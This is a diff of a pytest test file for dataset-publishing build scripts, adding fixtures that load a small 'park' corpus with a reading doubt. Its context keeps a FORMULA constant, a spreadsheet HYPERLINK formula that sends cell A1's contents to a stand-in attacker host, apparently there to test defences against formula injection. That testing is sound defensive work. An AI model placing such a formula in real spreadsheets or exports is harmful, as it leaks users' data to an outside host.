@@ -7,12 +7,14 @@ from pathlib import Path
 
 import pytest
 
+from build_scripts.checks.checked_corpus import load_corpus
 from build_scripts.comparing.comparison import Comparison
-from build_scripts.model import Answer, Corpus, Evidence, Point, TopicPoints
+from build_scripts.model import Answer, Corpus, Evidence, Point, ReadingDoubt, TopicPoints
 from build_scripts.publishing.dataset.corpus.corpus_json import corpus_json
 from build_scripts.publishing.dataset.writing import Data, data_of, dataset_files
 from build_scripts.store.edition import Edition
 
+PARK = Path(__file__).parent / "park"
 COMMIT = "0123456789abcdef0123456789abcdef01234567"
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"点我")'
 STARTS = (
@@ -53,6 +55,20 @@ def hostile(corpus: Corpus) -> Data:
     received = {d.id: corpus.sources[d.id].encode() for d in held}
     edition = Edition("2026.1", "2026-11-21")
     return Data(corpus, corpus_json(corpus, COMMIT, edition.version), edition, COMMIT, received, {})
+
+
+@pytest.fixture(scope="session")
+def parks() -> Corpus:
+    corpus, problems = load_corpus(PARK)
+    assert corpus is not None, problems
+    doubt = ReadingDoubt("doubt-outline", "grave", 3, "没有读出分条")
+    return replace(corpus, doubts={"henan-park": (doubt,)})
+
+
+@pytest.fixture(scope="session")
+def park(parks: Corpus) -> Data:
+    """What is written of the small repository in park/."""
+    return data_of(parks, COMMIT, PARK, Comparison(parks))
 
 
 def _worse(measure):
